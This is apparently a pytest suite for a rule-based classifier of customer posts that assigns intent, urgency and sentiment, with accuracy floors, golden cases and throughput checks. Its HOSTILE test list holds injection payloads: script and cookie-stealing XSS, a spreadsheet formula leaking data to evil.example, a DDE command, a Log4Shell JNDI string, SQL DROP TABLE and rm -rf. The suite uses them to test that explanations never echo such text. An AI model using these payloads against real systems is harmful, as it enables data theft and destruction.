"""Post classification: accuracy on the held-out labelled posts, golden cases, hostile text, determinism."""

from __future__ import annotations

import time
from collections import Counter

import pytest

import models.classify as classify_module
from bench.classify import evaluate, held_out, load_labelled, macro_f1
from models.classify import INTENTS, RULES_VERSION, URGENCIES, Classification, classify, classify_many

ROWS = load_labelled()


@pytest.fixture(scope="module")
def held_out_scores() -> dict:
    return evaluate(held_out(ROWS))


def test_labelled_set_is_big_varied_and_well_formed():
    assert len(ROWS) >= 300
    assert len({row["text"] for row in ROWS}) == len(ROWS)
    assert all(row["intent"] in INTENTS and row["urgency"] in URGENCIES for row in ROWS)
    counts = Counter(row["intent"] for row in ROWS)
    assert counts["complaint"] >= 85 and counts["question"] >= 65 and counts["praise"] >= 55
    assert counts["idea"] >= 45 and counts["other"] >= 30
    assert len(held_out(ROWS)) == len(ROWS) // 3


# Floors are the held-out scores measured for rules version 1 (shown in the comments) minus a margin: they hold
# while the rules keep working and fail when someone breaks a cue family or the question-mark / sentiment logic.
HELD_OUT_FLOORS = {  # intent: (precision floor, recall floor)
    "complaint": (0.85, 0.85),  # measured 0.97, 0.97
    "question": (0.75, 0.90),  # 0.85, 1.00
    "praise": (0.85, 0.85),  # 0.96, 0.96
    "idea": (0.85, 0.85),  # 1.00, 1.00
    "other": (0.60, 0.35),  # 0.86, 0.55 (11 posts; chit-chat is the hardest to tell from a question or praise)
}


@pytest.mark.parametrize("intent", INTENTS)
def test_held_out_precision_and_recall_per_intent(held_out_scores, intent):
    precision_floor, recall_floor = HELD_OUT_FLOORS[intent]
    scores = held_out_scores["intent"][intent]
    assert scores["precision"] >= precision_floor, scores
    assert scores["recall"] >= recall_floor, scores


def test_held_out_macro_f1(held_out_scores):
    assert macro_f1(held_out_scores["intent"]) >= 0.80  # measured 0.90


def test_held_out_urgency(held_out_scores):
    assert held_out_scores["urgency_accuracy"] >= 0.85  # measured 0.92
    high = held_out_scores["urgency"]["high"]
    assert high["precision"] >= 0.8 and high["recall"] >= 0.8, high  # measured 1.00, 1.00


def test_whole_set_macro_f1():
    assert macro_f1(evaluate(ROWS)["intent"]) >= 0.90  # measured 0.96


GOLDEN = [  # text, intent, urgency, a cue (or signal) the explanation must name
    ("@FernwoodHelp charged twice for order #1042 and still waiting on a refund", "complaint", "high",
     "'charged twice' (money)"),
    ("why is nobody answering??", "complaint", "normal", "a rhetorical '?'"),
    ("great, another broken zip 🙄", "complaint", "normal", "'🙄'"),
    ("My stove burst into flames and burnt my hand", "complaint", "high", "'burn*' (safety)"),
    ("I WANT MY MONEY BACK NOW", "complaint", "high", "ALL CAPS"),
    ("Order #3310: three weeks and still no reply.", "complaint", "high", "waiting 21 days"),
    ("Does the Ridgeline 2 come with a footprint?", "question", "normal", "'does the'"),
    ("Is it safe to use the Ember stove in a tent porch? Worried about carbon monoxide", "question", "high",
     "'carbon monoxide' (safety)"),
    ("The Elm 600 is brilliant, warmest night I've had on Dartmoor. Thank you!", "praise", "low", "'brilliant'"),
    ("Would love a kids' version of the Summit pack", "idea", "low", "'would love'"),
    ("Could you add a hip belt pocket to the Summit 30?", "idea", "low", "'?' after a suggestion"),
    ("Entering! @sam_walks @jo.hikes #FernwoodGiveaway", "other", "low", "'entering'"),
    ("Brilliant tent, shame the pole snapped", "complaint", "normal", "tied with praise"),
]


@pytest.mark.parametrize(("text", "intent", "urgency", "cue"), GOLDEN)
def test_golden_cases(text, intent, urgency, cue):
    result = classify(text)
    assert (result.intent, result.urgency) == (intent, urgency), result.explanation
    assert cue in result.explanation
    assert f"sentiment {result.sentiment:+.2f}" in result.explanation
    assert result.explanation.startswith(f"{intent}: ") and f"urgency {urgency}" in result.explanation


def test_explanation_reads_like_the_contract_example():
    result = classify("Still waiting for my refund, you charged twice. Order #1042")
    assert result.explanation == (
        "complaint: matched 'still waiting', 'refund' and 'charged twice'; "
        f"sentiment {result.sentiment:+.2f}; urgency high: matched 'charged twice' (money)"
    )


@pytest.mark.parametrize("text", ["", "   ", "\n\t"])
def test_empty_text_is_other_and_low(text):
    assert classify(text) == Classification(
        "other", "low", 0.0, "other: no intent scored 1.0 or more; sentiment +0.00; urgency low: "
        "other needs no reply by a deadline")


def test_deterministic_and_classify_many_matches_classify():
    texts = [row["text"] for row in ROWS]
    first = classify_many(texts)
    assert classify_many(texts) == first
    assert [classify(text) for text in texts] == first
    assert classify_many(iter(texts[:5])) == first[:5]


def test_given_sentiment_is_used_and_not_scored_again(monkeypatch):
    def no_vader(_text):
        raise AssertionError("VADER ran although the caller passed the sentiment")

    monkeypatch.setattr(classify_module._analyzer, "polarity_scores", no_vader)
    result = classify("The tent arrived", sentiment=-0.8)
    assert (result.intent, result.sentiment) == ("complaint", -0.8)
    assert "negative sentiment" in result.explanation and "sentiment -0.80" in result.explanation


def test_sentiment_is_vader_compound():
    from vaderSentiment.vaderSentiment import SentimentIntensityAnalyzer

    text = "Absolutely love this tent, best purchase ever!"
    assert classify(text).sentiment == SentimentIntensityAnalyzer().polarity_scores(text)["compound"]


def test_rules_version_is_a_non_empty_string():
    assert isinstance(RULES_VERSION, str) and RULES_VERSION


HOSTILE = [
    "<script>alert('refund')</script><img src=x onerror=alert(1)>",
    "**[Click for your refund](javascript:alert(document.cookie))** __still waiting__ ![x](http://evil.example/p.png)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"refund now")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2) @SUM(A1:A9) -2+3",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x",
    "Robert'); DROP TABLE posts;-- why is nobody answering??",
    "```python\nimport os; os.system('rm -rf /')\n```",
    "\u202eevil\u202c \x00\x1b[31m NUL and escape \u0000",
    "(?:a+)+$ ((((((((((((((((((((a))))))))))))))))))))",
]
HOSTILE_FRAGMENTS = ("<script", "onerror", "javascript:", "HYPERLINK", "cmd|", "SUM(", "${jndi", "{{7*7}}",
                     "DROP TABLE", "os.system", "\u202e", "\x00", "\x1b", "(?:a+)")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_classifies_and_is_never_echoed(text):
    result = classify(text)
    assert result.intent in INTENTS and result.urgency in URGENCIES and -1.0 <= result.sentiment <= 1.0
    assert text not in result.explanation
    assert not any(fragment in result.explanation for fragment in HOSTILE_FRAGMENTS)
    # starts with an intent name, one line: safe to drop into a CSV export or a table cell as it is
    assert result.explanation.split(":")[0] in INTENTS and "\n" not in result.explanation


def test_explanations_quote_only_listed_cues():
    listed = [cue for cues in classify_module.INTENT_CUES.values() for cue, _ in cues]
    listed += [cue for cues in classify_module.URGENCY_CUES.values() for cue in cues] + list(classify_module.MILD_CUES)
    quotes = sorted({f"'{cue}'" for cue in listed} | {"'?'", "'!!!'"}, key=len, reverse=True)
    for text in [row["text"] for row in ROWS] + HOSTILE:
        rest = classify(text).explanation
        for quote in quotes:
            rest = rest.replace(quote, "")
        assert "'" not in rest, (text, classify(text).explanation)


def test_hostile_text_still_reads_its_cues():
    assert classify(HOSTILE[0]).intent == "complaint"  # 'refund' inside a tag is still a refund
    assert classify(HOSTILE[6]).intent == "complaint"


def test_huge_and_pathological_texts_are_fast():
    start = time.perf_counter()
    for text in ("A" * 1_000_000, "why? " * 200_000, "@" * 100_000, "refund " * 100_000, "🙄" * 100_000):
        assert classify(text).intent in INTENTS
    assert time.perf_counter() - start < 5  # MAX_CHARS bounds the work, whatever arrives


def test_throughput_without_vader_guards_against_slow_rules():
    # The target is 10,000 posts/s (`python -m bench classify` measures ~24,000 on a quiet machine, ~12,000 on a busy
    # one); the floor here is half the target so a busy CI box does not fail it, while a regression to one big regex
    # alternation (~150/s) or per-post compilation still does.
    texts = [row["text"] for row in ROWS] * 20
    best = float("inf")
    for _ in range(3):  # best of three passes: the least disturbed by whatever else the machine is doing
        start = time.perf_counter()
        for text in texts:
            classify(text, sentiment=0.0)
        best = min(best, time.perf_counter() - start)
    assert len(texts) / best >= 5_000
